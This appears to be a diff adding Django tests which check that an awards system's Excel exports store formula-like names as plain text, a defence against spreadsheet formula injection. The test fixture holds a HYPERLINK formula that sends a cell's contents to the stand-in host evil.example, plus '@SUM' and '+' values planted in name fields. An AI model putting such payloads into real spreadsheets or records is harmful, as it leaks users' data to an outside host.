@@ -135,3 +135,37 @@ def test_decision_export_of_a_draft_says_it_is_a_draft(client_of, office_user, d
     rows = rows_of(workbook_of(response).active)
     assert rows[1][0] == "(Kèm theo dự thảo Quyết định số …/QĐ-UBND)"
     assert rows[5][4] is None
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")'
+
+
+@pytest.fixture
+def signed_with_formulas(award_form, leader, office_user):
+    unit = OrganizationFactory(name="@SUM(A1:A9) Trung tâm")
+    approved_nomination(campaign=award_form.campaign, award_form=award_form, submitting_unit=unit,
+                        nominee_person__full_name=HYPERLINK, nominee_person__organization=unit,
+                        nominee_person__position="+84 Trợ giúp viên", nominee_person__title="")
+    decision = draft_decision(award_form, by=office_user)
+    decision.signer_name = "Nguyễn Ngọc Hè"
+    decision.save()
+    return sign_decision(decision, by=leader)
+
+
+@pytest.mark.django_db
+def test_register_export_writes_a_name_typed_as_a_formula_as_text(client_of, office_user, signed_with_formulas):
+    sheet = workbook_of(client_of(office_user).get(reverse("awards:register_export"))).active
+
+    assert [sheet["B2"].value, sheet["C2"].value] == ["'" + HYPERLINK, "'@SUM(A1:A9) Trung tâm"]
+    assert {sheet["B2"].data_type, sheet["C2"].data_type} == {"s"}
+
+
+@pytest.mark.django_db
+def test_decision_export_writes_a_name_typed_as_a_formula_as_text(client_of, office_user, signed_with_formulas):
+    response = client_of(office_user).get(reverse("awards:decision_export", args=[signed_with_formulas.pk]))
+
+    sheet = workbook_of(response).active
+    assert [sheet["B6"].value, sheet["C6"].value, sheet["D6"].value] == [
+        "'" + HYPERLINK, "'+84 Trợ giúp viên", "'@SUM(A1:A9) Trung tâm",
+    ]
+    assert {sheet["B6"].data_type, sheet["C6"].data_type, sheet["D6"].data_type} == {"s"}
